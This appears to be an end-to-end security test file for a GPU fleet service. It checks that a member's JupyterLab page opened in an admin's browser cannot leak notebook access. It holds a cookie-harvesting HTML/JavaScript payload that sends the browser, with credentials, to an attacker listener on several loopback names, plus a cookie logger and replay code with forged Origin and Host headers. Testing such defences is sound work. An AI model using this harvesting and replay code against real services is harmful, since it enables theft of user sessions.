"""JupyterLab in Chromium, as a person uses it, and what a member's page can take from an admin's browser.

`gpufleet serve` with sign-in on, two simulated GPUs, the JupyterLab and
jupyter_server the default install pulls. Alice and Mallory (members who
may run code, each with a Unix account) each start a `--jupyter` session;
one server and both sessions serve every test here.

- Alice opens her notebook from the Sessions page and from `gpufleet
  session open`'s address: the lab renders under the notebook's own host
  name, none of the lab's own requests gets a 4xx, a cell typed into the
  editor runs and its output shows in the page.
- Mallory's Jupyter config serves a page of hers that sends the browser to
  a plain HTTP listener of hers on another port of every name a pass could
  be sent to (another loopback address too). An admin who joined both
  notebooks opens her page. What the listener receives opens no notebook
  when replayed, forged ``Origin`` and all, through gpufleet or at the
  notebook's own loopback port; and no request carries two notebooks' passes.
- An admin who did not join gets no ticket, and the Sessions page offers
  her Join, not Open.
"""

from __future__ import annotations

import json
import re
import secrets
import shutil
import subprocess
import tempfile
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from gpufleet.api.proxy.place import loopback_host
from gpufleet.config import load_settings
from gpufleet.db.interactive import TrainingSession
from gpufleet.db.session import session_scope
from support.people import context_sign_in
from support.servers import ServedProcess, cli, free_port, make_token, serve_process, wait_served
from support.unix import short_name, unix_account

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

# Mallory's page: to her listener on every host name a pass could be sent to, by a request and a navigation.
HARVEST = """<!doctype html><meta charset="utf-8"><title>plots</title><p id="out">working</p>
<script>
const targets = %(targets)s;
(async () => {
  for (const t of targets) {
    try { await fetch(t + 'fetch', {mode: 'no-cors', credentials: 'include'}); } catch (e) {}
  }
  document.getElementById('out').textContent = 'sent';
  location.href = targets[0] + 'hop?i=0';
})();
</script>
"""


@dataclass
class Fleet:
    srv: ServedProcess
    env: dict[str, str]
    tokens: dict[str, str]
    names: dict[str, str]
    sessions: dict[str, str]  # alice's and mallory's session ids
    listener: list[dict[str, str]]  # what Mallory's listener received
    listener_port: int

    def as_(self, who: str) -> dict[str, str]:
        return {**self.env, "GPUFLEET_SERVER": self.srv.url, "GPUFLEET_TOKEN": self.tokens[who]}

    def notebook(self, sid: str) -> str:
        return f"http://{loopback_host(sid)}:{self.srv.sessions_port}"


class _Listener(BaseHTTPRequestHandler):
    """Mallory's plain HTTP listener: logs every request, and sends the browser on to the next name."""

    log_to: list[dict[str, str]] = []
    hops: list[str] = []

    def do_GET(self) -> None:
        self.log_to.append({"host": self.headers.get("host", ""), "path": self.path,
                            "cookie": self.headers.get("cookie", ""),
                            "site": self.headers.get("sec-fetch-site", "")})
        hop = re.search(r"hop\?i=(\d+)", self.path)
        if hop and int(hop.group(1)) + 1 < len(self.hops):
            nxt = int(hop.group(1)) + 1
            self.send_response(302)
            self.send_header("Location", f"{self.hops[nxt]}hop?i={nxt}")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>caught</title><p id='caught'>caught</p>")

    def log_message(self, *_args: object) -> None:
        pass


def _hostile_home(root: Path, name: str, page: str) -> None:
    """Mallory's home with her page, and her Jupyter config that serves it beside the notebook."""
    home = root / f"home-{name}"
    (home / ".jupyter").mkdir(parents=True)
    (home / "www").mkdir()
    (home / "www" / "plots.html").write_text(page)
    (home / ".jupyter" / "jupyter_server_config.py").write_text(
        f"c = get_config()  # noqa\nc.ServerApp.extra_static_paths = [{str(home / 'www')!r}]\n")
    subprocess.run(["chown", "-R", f"{name}:{name}", str(home)], check=True)
    home.chmod(0o700)
    subprocess.run(["usermod", "-d", str(home), name], check=True, capture_output=True)


def _start(fleet_srv: ServedProcess, as_env: dict[str, str], token: str) -> str:
    sid = json.loads(cli(fleet_srv.data_dir, "session", "start", "--gpus", "1", "--jupyter", "--json", **as_env))["id"]
    api = httpx.Client(base_url=fleet_srv.url, headers={"Authorization": f"Bearer {token}"}, timeout=60)
    wait_served("the session running", lambda: (s := api.get(f"/api/v1/sessions/{sid}").json())["status"] == "running"
          and s["url"], fleet_srv)
    return sid


@pytest.fixture(scope="module")
def fleet(dashboard_built: Path) -> Iterator[Fleet]:
    root = Path(tempfile.mkdtemp(prefix="gpufleet-lab-", dir="/tmp"))
    root.chmod(0o755)
    env = {"GPUFLEET_SIMULATE": "2xH100-80GB", "GPUFLEET_AUTH": "on", "GPUFLEET_SECRET_KEY": secrets.token_urlsafe(32)}
    names = {"alice": short_name("lba"), "mallory": short_name("lbm"), "admin": "lb-admin"}
    port = free_port()
    log: list[dict[str, str]] = []
    handler = type("Caught", (_Listener,), {"log_to": log, "hops": []})
    servers = [ThreadingHTTPServer((address, port), handler) for address in ("127.0.0.1", "127.0.0.2")]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with unix_account(names["alice"]), unix_account(names["mallory"]):
            tokens = {key: make_token(root / "data", name, "admin" if key == "admin" else "member", **env)
                      for key, name in names.items()}
            for key in ("alice", "mallory"):
                cli(root / "data", "users", "grant", names[key], "run_code", **env)
            with serve_process(root / "data", **env) as srv:
                fleet = Fleet(srv, env, tokens, names, {}, log, port)
                fleet.sessions["alice"] = _start(srv, fleet.as_("alice"), tokens["alice"])
                targets = [f"http://127.0.0.1:{port}/", f"http://127.0.0.2:{port}/", f"http://localhost:{port}/",
                           *(f"http://{loopback_host(s)}:{port}/" for s in (fleet.sessions["alice"],))]
                _hostile_home(root, names["mallory"], "")
                fleet.sessions["mallory"] = _start(srv, fleet.as_("mallory"), tokens["mallory"])
                targets.append(f"http://{loopback_host(fleet.sessions['mallory'])}:{port}/")
                (root / f"home-{names['mallory']}" / "www" / "plots.html").write_text(
                    HARVEST % {"targets": json.dumps(targets)})
                handler.hops = targets
                yield fleet
    finally:
        for server in servers:
            server.shutdown()
        shutil.rmtree(root, ignore_errors=True)


def _signed_in(browser, fleet: Fleet, who: str):
    ctx = browser.new_context(base_url=fleet.srv.url, viewport={"width": 1280, "height": 800}, bypass_csp=False)
    context_sign_in(ctx, fleet.srv.url, fleet.tokens[who])
    return ctx


def _watch_refusals(page, origin: str) -> list[str]:
    """Every answer of 400 or more to the lab's own requests (its origin's)."""
    refused: list[str] = []
    page.on("response", lambda r: refused.append(f"{r.status} {r.request.method} {r.url}")
            if r.status >= 400 and r.url.startswith(origin) else None)
    return refused


def _run_in_lab(page, code: str) -> str:
    """Open a new Python notebook from a launcher, type ``code`` into its first cell, run it: its output."""
    page.locator(".jp-LauncherCard:visible, .jp-NotebookPanel:visible").first.wait_for(timeout=120_000)
    card = page.locator(".jp-LauncherCard[data-category='Notebook']:visible").first
    if not card.count():  # the workspace brought back a notebook: a new launcher (File, New Launcher)
        page.locator(".lm-MenuBar-itemLabel", has_text="File").click()
        page.locator(".lm-Menu-itemLabel", has_text="New Launcher").click()
    card.click(timeout=60_000)
    panel = page.locator(".jp-NotebookPanel:visible").last
    editor = panel.locator(".jp-Cell .cm-content").first
    editor.wait_for(timeout=60_000)
    # The kernel started and connected (its channels' WebSocket): the status bar says so.
    page.get_by_text(re.compile(r"\|\s*Idle")).first.wait_for(timeout=120_000)
    editor.click()
    page.keyboard.type(code)
    page.keyboard.press("Shift+Enter")
    output = panel.locator(".jp-OutputArea-output").first
    output.wait_for(timeout=120_000)
    return output.inner_text()


def _notebook_token(fleet: Fleet, sid: str) -> str:
    with session_scope(load_settings(data_dir=fleet.srv.data_dir)) as sess:
        return sess.get(TrainingSession, uuid.UUID(sid)).token


def test_the_owner_opens_jupyterlab_from_the_dashboard_and_runs_a_cell(browser, fleet: Fleet,
                                                                       screenshots: Path) -> None:
    sid = fleet.sessions["alice"]
    ctx = _signed_in(browser, fleet, "alice")
    try:
        page = ctx.new_page()
        page.set_default_timeout(60_000)
        page.goto("/sessions")
        row = page.get_by_test_id(f"session-row-{sid}")
        with ctx.expect_page() as opened:
            row.get_by_role("button", name="Open").click()
        lab = opened.value
        refused = _watch_refusals(lab, fleet.notebook(sid))
        lab.wait_for_url(re.compile(re.escape(fleet.notebook(sid)) + r"/sessions/" + sid + r"/lab"))
        out = _run_in_lab(lab, "print(6*7)")
        assert out.strip() == "42"
        lab.screenshot(path=str(screenshots / "notebook-lab-cell.png"))
        assert refused == [], refused
        # Jupyter's token never reaches the browser; nor does its login cookie, which would open its port.
        cookies = ctx.cookies()
        assert _notebook_token(fleet, sid) not in lab.content() + json.dumps(cookies)
        assert not [c for c in cookies if c["name"].startswith("username-")], cookies
        # A reload has no fresh ticket: back to the dashboard's open step for one, and the lab again.
        before = lab.url
        with lab.expect_request(lambda r: f"/sessions?open={sid}" in r.url and r.url.startswith(fleet.srv.url)):
            lab.reload()
        lab.wait_for_url(lambda u: u != before and u.startswith(f"{fleet.notebook(sid)}/sessions/{sid}/lab"))
        lab.locator(".jp-LabShell").wait_for()
    finally:
        ctx.close()


def test_the_owner_opens_jupyterlab_from_session_open(browser, fleet: Fleet) -> None:
    sid = fleet.sessions["alice"]
    link = cli(fleet.srv.data_dir, "session", "open", sid[:8], **fleet.as_("alice")).strip()
    assert link.startswith(f"{fleet.notebook(sid)}/sessions/{sid}/?gpufleet_ticket="), link
    ctx = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=False)
    try:
        lab = ctx.new_page()
        lab.set_default_timeout(60_000)
        refused = _watch_refusals(lab, fleet.notebook(sid))
        lab.goto(link)
        assert _run_in_lab(lab, "print(6*7)").strip() == "42"
        assert refused == [], refused
    finally:
        ctx.close()
    # The link worked once: again, it opens nothing.
    with httpx.Client(timeout=60) as replay:
        again = replay.get(link.replace(loopback_host(sid), "127.0.0.1"), headers={"Host": f"{loopback_host(sid)}:"
                                                                                          f"{fleet.srv.sessions_port}"})
        assert again.status_code == 403, again.text


def _replays(fleet: Fleet, cookie: str) -> Iterator[tuple[str, httpx.Response]]:
    """The captured ``cookie`` sent as a script would, to each notebook: through gpufleet with the origin's
    own Host and a forged Origin, and straight at the notebook's loopback port."""
    for sid in fleet.sessions.values():
        host = f"{loopback_host(sid)}:{fleet.srv.sessions_port}"
        forged = {"Cookie": cookie, "Host": host, "Origin": f"http://{host}", "Sec-Fetch-Site": "same-origin"}
        base = f"http://127.0.0.1:{fleet.srv.sessions_port}/sessions/{sid}"
        with httpx.Client(timeout=60) as c:
            yield "start a kernel", c.post(f"{base}/api/kernels", json={}, headers=forged)
            yield "start a kernel, a made-up key", c.post(f"{base}/api/kernels", json={},
                                                          headers={**forged, "Authorization": "token " + "0" * 43})
            yield "list files", c.get(f"{base}/api/contents", headers=forged)
            yield "load the lab page", c.get(f"{base}/lab", headers={**forged, "Accept": "text/html"})
            yield "load the lab page as a script", c.get(f"{base}/lab", headers=forged)
            with session_scope(load_settings(data_dir=fleet.srv.data_dir)) as sess:
                port = sess.get(TrainingSession, uuid.UUID(sid)).port
            yield "the notebook's own port", c.get(f"http://127.0.0.1:{port}/sessions/{sid}/api/contents",
                                                   headers={"Cookie": cookie})


def test_a_members_page_opened_by_an_admin_sends_her_listener_nothing_that_opens_a_notebook(
        browser, fleet: Fleet) -> None:
    alice, mallory = fleet.sessions["alice"], fleet.sessions["mallory"]
    ctx = _signed_in(browser, fleet, "admin")
    try:
        page = ctx.new_page()
        page.set_default_timeout(60_000)
        page.goto("/sessions")
        for sid in (alice, mallory):  # the admin joins both, explicitly, and both labs open
            with ctx.expect_page() as opened:
                page.get_by_test_id(f"session-row-{sid}").get_by_role("button", name="Join").click()
            opened.value.wait_for_url(re.compile(re.escape(fleet.notebook(sid)) + ".*/lab"))
            opened.value.locator(".jp-LabShell").wait_for(timeout=120_000)
        lab = ctx.pages[-1]
        # Mallory's page, on her notebook's origin, in the admin's browser.
        lab.goto(f"{fleet.notebook(mallory)}/sessions/{mallory}/static/plots.html")
        lab.wait_for_selector("#caught", timeout=60_000)
        wait_served("the listener's last hop", lambda: any(r["host"].startswith(loopback_host(mallory)) and "hop" in
                                                     r["path"] for r in fleet.listener), fleet.srv, 60)
    finally:
        ctx.close()
    caught = list(fleet.listener)
    assert caught, "Mallory's listener received nothing: the attack did not run"
    assert {r["host"].split(":")[0] for r in caught} >= {"127.0.0.1", "127.0.0.2", loopback_host(alice)}, caught
    for r in caught:
        # One notebook, one pass: a request carries at most one notebook's cookie, and Alice's only to Alice's
        # own host name (cookies go to every port of a name: there it is caught, and opens nothing, below).
        assert r["cookie"].count("gpufleet_nb_") <= 1, r
        if not r["host"].startswith(loopback_host(alice)):
            assert "gpufleet_nb_" + alice.replace("-", "") not in r["cookie"], r
    cookies = {r["cookie"] for r in caught if r["cookie"]}
    for cookie in cookies:
        for what, answer in _replays(fleet, cookie):
            # Opened: an answer of the notebook's, or a redirect within it past its sign-in. Its login page
            # and the dashboard's open step (which wants the dashboard's own sign-in) are not.
            location = answer.headers.get("location", "")
            opened = answer.status_code < 300 or (answer.status_code < 400 and "/sessions?open=" not in location
                                                  and "/login" not in location)
            assert not opened, f"{what} with {cookie!r}: {answer.status_code} {answer.text[:300]}"


def test_an_admin_who_did_not_join_gets_no_ticket(browser, fleet: Fleet) -> None:
    alice = fleet.sessions["alice"]
    admin = httpx.Client(base_url=fleet.srv.url, headers={"Authorization": f"Bearer {fleet.tokens['admin']}"},
                         timeout=60)
    refused = admin.post(f"/api/v1/sessions/{alice}/open")
    assert refused.status_code == 403 and "join" in refused.json()["detail"], refused.text
    host = f"{loopback_host(alice)}:{fleet.srv.sessions_port}"
    direct = httpx.get(f"http://127.0.0.1:{fleet.srv.sessions_port}/sessions/{alice}/api/contents",
                       headers={"Authorization": f"Bearer {fleet.tokens['admin']}", "Host": host}, timeout=60)
    assert direct.status_code == 403, direct.text
    ctx = _signed_in(browser, fleet, "admin")
    try:
        page = ctx.new_page()
        page.goto("/sessions")
        row = page.get_by_test_id(f"session-row-{alice}")
        row.get_by_role("button", name="Join").wait_for()
        assert row.get_by_role("button", name="Open").count() == 0
    finally:
        ctx.close()
    # The explicit step: a join, on the session's record by name.
    assert admin.post(f"/api/v1/sessions/{alice}/join").status_code == 200
    events = admin.get(f"/api/v1/trainings/{alice}/events").json()["data"]
    joins = [e for e in events if "joined" in (e.get("reason") or "")]
    assert joins and all(f"{fleet.names['admin']} (admin) joined" in e["reason"] and e["user"] == fleet.names["admin"]
                         for e in joins), events
